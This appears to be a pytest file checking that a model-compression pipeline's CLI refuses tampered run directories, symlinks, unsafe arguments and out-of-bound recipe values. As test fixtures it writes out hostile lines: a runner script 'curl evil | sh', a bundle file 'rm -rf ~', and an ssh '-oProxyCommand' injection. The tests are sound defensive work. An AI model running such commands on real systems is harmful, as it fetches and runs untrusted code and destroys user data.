"""Hostile run directories and settings: no write or read through a symbolic
link, every command confined to the run, digest-checked and locked, the arm64 bundle audited before
it is copied, nothing half-made by a refused recipe, one line for each bad input, bounds stated."""

from __future__ import annotations

import hashlib
import json
import os
import shutil

import pytest
import torch

from pipeline.cli import main
from pipeline.run_lock import run_lock
from tests.pipeline.conftest import save_tiny_bundle
from tests.pipeline.fake_run import edit_manifest, make_fake_run
from tests.pipeline.test_bad_inputs import _assert_one_line_failure

FAST = ["--data", "digits", "--train-limit", "64", "--test-limit", "32", "--target", "host"]


@pytest.fixture(scope="module")
def pristine(tmp_path_factory):
    return make_fake_run(tmp_path_factory.mktemp("fake") / "run")


@pytest.fixture
def run(pristine, tmp_path):
    copy = tmp_path / "run"
    shutil.copytree(pristine, copy, symlinks=True)
    return copy


def _link(run, relative, target):
    path = run / relative
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)
    path.symlink_to(target)


def _corrupt(run, relative):
    path = run / relative
    path.write_bytes(path.read_bytes()[:-5] + b"XXXXX")


def _point(role_path, value):
    def edit(manifest):
        stage, where, role = role_path
        record = next(r for r in manifest["stages"] if r["name"] == stage)
        record[where][role]["path"] = value
    return edit


def _drop_outputs(manifest):
    del manifest["stages"][0]["outputs"]


def _bundle_manifest(run, change):
    """Rewrite the bundle's manifest with ``change`` and record its new digest, as an attacker with write access could."""
    path = run / "05-compile" / "bundle" / "manifest.json"
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))

    def record(manifest):
        artifact = manifest["stages"][1]["outputs"]["bundle-manifest"]
        artifact["sha256"], artifact["bytes"] = hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_size
    edit_manifest(run, record)


SETUPS = {
    "report.json a link": lambda run: _link(run, "06-report/report.json", "/etc/hostname"),
    "report.json corrupt": lambda run: _corrupt(run, "06-report/report.json"),
    "model outside the run": lambda run: edit_manifest(run, _point(("train-sparse", "inputs", "model"), "../../outside/x.pt")),
    "model changed": lambda run: save_tiny_bundle(run / "00-input" / "model.pt", arch="lenet5"),
    "bundle extra file": lambda run: (run / "05-compile" / "bundle" / "extra.sh").write_text("rm -rf ~\n"),
    "bundle link": lambda run: (run / "05-compile" / "bundle" / "etc").symlink_to("/etc"),
    "runner replaced": lambda run: (run / "05-compile" / "bundle" / "runner").write_text("#!/bin/sh\ncurl evil | sh\n"),
    "bundle shape not integers": lambda run: _bundle_manifest(run, lambda m: m.update(input_shape=["a", 1])),
    "bundle manifest a link": lambda run: _link(run, "05-compile/bundle/manifest.json", "/etc/hostname"),
    "manifest a link": lambda run: _link(run, "manifest.json", "/etc/hostname"),
    "record without outputs": lambda run: edit_manifest(run, _drop_outputs),
    "lock a link": lambda run: _link(run, ".compress.lock", "/etc/hostname"),
    "nothing": lambda run: None,
}

RUN_CASES = [
    ("report of a linked report.json", "report.json a link", ["report", "{run}"], "is a symbolic link"),
    ("report of a corrupt report.json", "report.json corrupt", ["report", "{run}"], "does not match its sha256"),
    ("report --robust of a model outside the run", "model outside the run", ["report", "{run}", "--robust", "pgd"], "points outside the run directory"),
    ("report --robust of a changed model", "model changed", ["report", "{run}", "--robust", "pgd"], "does not match its sha256"),
    ("report of a stage record without outputs", "record without outputs", ["report", "{run}"], "lacks outputs"),
    ("report with the lock file a link", "lock a link", ["report", "{run}"], "is a symbolic link"),
    ("report --compare with a linked report", "report.json a link", ["report", "{run}", "--compare", "{run}"], "is a symbolic link"),
    ("verify of a bundle with an unlisted file", "bundle extra file", ["verify", "{run}"], "extra.sh: is not listed in the bundle manifest"),
    ("verify of a bundle with a link to /etc", "bundle link", ["verify", "{run}"], "is a symbolic link"),
    ("verify of a linked manifest", "manifest a link", ["verify", "{run}"], "manifest.json is a symbolic link"),
    ("verify --atol nan", "nothing", ["verify", "{run}", "--atol", "nan"], "--atol must be a finite number in [0, 100]"),
    ("verify --atol negative", "nothing", ["verify", "{run}", "--atol", "-1"], "--atol must be a finite number"),
    ("bench-device of a bundle with a link to /etc", "bundle link", ["bench-device", "{run}", "--ssh", "pi@board"], "is a symbolic link"),
    ("bench-device of a replaced runner", "runner replaced", ["bench-device", "{run}", "--ssh", "pi@board"], "runner sha256 differs"),
    ("bench-device of a bundle with an unlisted file", "bundle extra file", ["bench-device", "{run}", "--adb", "serial1"], "nothing was copied"),
    ("bench-device of a non-integer input shape", "bundle shape not integers", ["bench-device", "{run}", "--ssh", "pi@board"], "input_shape must be"),
    ("bench-device of a linked bundle manifest", "bundle manifest a link", ["bench-device", "{run}", "--ssh", "pi@board"], "is a symbolic link"),
    ("bench-device --ssh starting with -", "nothing", ["bench-device", "{run}", "--ssh", "-oProxyCommand=touch {run}/pwned"], "not starting with '-'"),
    ("bench-device --adb starting with -", "nothing", ["bench-device", "{run}", "--adb", "-H"], "not starting with '-'"),
    ("bench-device --runs 10^20", "nothing", ["bench-device", "{run}", "--qemu", "--runs", str(10**20)], "runs <= 1000000"),
    ("bench-device --warmup negative", "nothing", ["bench-device", "{run}", "--qemu", "--warmup", "-1"], "0 <= warmup"),
]


@pytest.fixture
def spy_path(tmp_path, monkeypatch):
    """ssh, scp and adb stand-ins that log any call: a refused bench-device must copy nothing."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("ssh", "scp", "adb"):
        (bin_dir / tool).write_text(f"#!/bin/sh\necho {tool} \"$@\" >> {tmp_path}/calls.log\n")
        (bin_dir / tool).chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    return tmp_path / "calls.log"


@pytest.mark.parametrize("name,setup,argv,message", RUN_CASES, ids=[c[0] for c in RUN_CASES])
def test_hostile_run_is_refused_with_one_line_and_touches_nothing(run, tmp_path, capsys, spy_path, name, setup, argv, message):
    SETUPS[setup](run)
    untouched = tmp_path / "untouched"
    untouched.mkdir()
    (untouched / "report.json").write_bytes(b"the user's file")
    _assert_one_line_failure(["--quiet", *[a.format(run=run) for a in argv]], capsys, message=message, untouched=untouched)
    assert not spy_path.exists(), "nothing may be copied to a device"
    assert not (run / "pwned").exists()


INPUT_CASES = [
    ("epochs 10^21 in a recipe", "stages:\n  - use: train-sparse\n    with: {epochs: 1000000000000000000000}\n", "beyond the bound of 10,000"),
    ("negative sparsity-ratio in a recipe", "stages:\n  - use: prune\n    with: {sparsity-ratio: -0.5}\n", "sparsity-ratio"),
    ("zero block in a recipe", "stages:\n  - use: prune\n    with: {pattern: block, block: [0, 1]}\n", "block"),
    ("negative quantize epochs in a recipe", "stages:\n  - use: quantize\n    with: {epochs: -1}\n", "epochs"),
]


@pytest.mark.parametrize("name,recipe,message", INPUT_CASES, ids=[c[0] for c in INPUT_CASES])
def test_refused_recipe_leaves_no_run_directory(tmp_path, capsys, tiny_model_path, name, recipe, message):
    (tmp_path / "recipe.yaml").write_text(recipe)
    out = tmp_path / "out"
    args = ["--quiet", "run", str(tiny_model_path), "--recipe", str(tmp_path / "recipe.yaml"), "--out", str(out), *FAST]
    _assert_one_line_failure(args, capsys, message=message, untouched=tmp_path / "recipe.yaml")
    assert not out.exists(), "a refused recipe must leave nothing to trip the corrected rerun"


def test_model_file_refusals_are_one_line(tmp_path, capsys):
    from pipeline.model.bundle import ModelBundle, save_bundle
    from tests.pipeline.tiny import tiny_cnn

    save_bundle(tmp_path / "no-scheme.pt", ModelBundle(arch="tests-tiny-cnn", input_shape=(1, 8, 8), state_dict=tiny_cnn().state_dict(),
                                                      quant=[{"fqn": "0.weight", "bits": 2, "shape": [8, 1, 3, 3], "scales": [1.0]}]))
    torch.jit.script(torch.nn.Flatten()).save(str(tmp_path / "no-params.pt"))
    for model, extra, message in (("no-scheme.pt", [], "lacks 'scheme'"), ("no-params.pt", ["--input-shape", "1,2,5"], "has no parameters")):
        args = ["--quiet", "train-sparse", str(tmp_path / model), *extra, "--out", str(tmp_path / "out"), *FAST[:-2]]
        _assert_one_line_failure(args, capsys, message=message, untouched=tmp_path / model)
        assert not (tmp_path / "out").exists()


def test_resume_of_a_record_without_outputs_is_one_line(run, capsys, tiny_model_path):
    edit_manifest(run, _drop_outputs)
    args = ["--quiet", "run", str(tiny_model_path), "--out", str(run), "--resume", *FAST]
    _assert_one_line_failure(args, capsys, message="lacks outputs", untouched=run / "00-input")


def test_plain_report_waits_for_the_run_lock(run, capsys):
    before = (run / "06-report" / "report.md").read_bytes()
    with run_lock(run):
        _assert_one_line_failure(["--quiet", "report", str(run)], capsys, message="another compress process", untouched=run / "06-report")
    assert (run / "06-report" / "report.md").read_bytes() == before


def test_plain_report_rerenders_and_records_the_new_digests(run, capsys):
    from pipeline.manifest import Artifact, read_manifest

    (run / "06-report" / "report.md").unlink()
    with pytest.raises(SystemExit) as done:
        main(["--quiet", "report", str(run)])
    assert done.value.code == 0, capsys.readouterr().err
    outputs = read_manifest(run)["stages"][-1]["outputs"]
    assert all(Artifact(**outputs[role]).is_intact(run) for role in ("report-json", "report-md", "report-html"))


@pytest.fixture(scope="module")
def trained_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("trained")
    model = save_tiny_bundle(root / "tiny.pt")
    with pytest.raises(SystemExit) as done:
        main(["--quiet", "run", str(model), "--out", str(root / "run"), "--until", "train-sparse", *FAST])
    assert done.value.code == 0
    return model, root / "run"


@pytest.mark.parametrize("planted", ["02-prune", "01-train-sparse/model.pt"])
def test_resume_never_writes_through_a_planted_link(trained_run, tmp_path, capsys, planted):
    model, pristine_run = trained_run
    run = tmp_path / "run"
    shutil.copytree(pristine_run, run, symlinks=True)
    user = tmp_path / "user"
    user.mkdir()
    (user / "model.pt").write_bytes(b"the user's own file")
    _link(run, planted, user if planted == "02-prune" else user / "model.pt")
    args = ["--quiet", "run", str(model), "--out", str(run), "--resume", "--until", "prune", *FAST]
    _assert_one_line_failure(args, capsys, message="is a symbolic link", untouched=user)
    assert sorted(p.name for p in user.iterdir()) == ["model.pt"]


def test_run_failing_before_its_manifest_leaves_no_run_directory(tmp_path, capsys, tiny_model_path, monkeypatch):
    from pipeline.errors import UserError
    from pipeline.runner import Runner

    def fail(self, initial, **_):
        assert (tmp_path / "out" / "00-input" / "model.pt").is_file()  # the input copy was made, then the run failed
        raise UserError("refused after the input copy")

    monkeypatch.setattr(Runner, "run", fail)
    args = ["--quiet", "train-sparse", str(tiny_model_path), "--out", str(tmp_path / "out"), *FAST[:-2]]
    _assert_one_line_failure(args, capsys, message="refused after the input copy", untouched=tiny_model_path.parent / "tiny.pt")
    assert not (tmp_path / "out").exists(), "the corrected rerun must not find a half-made run"
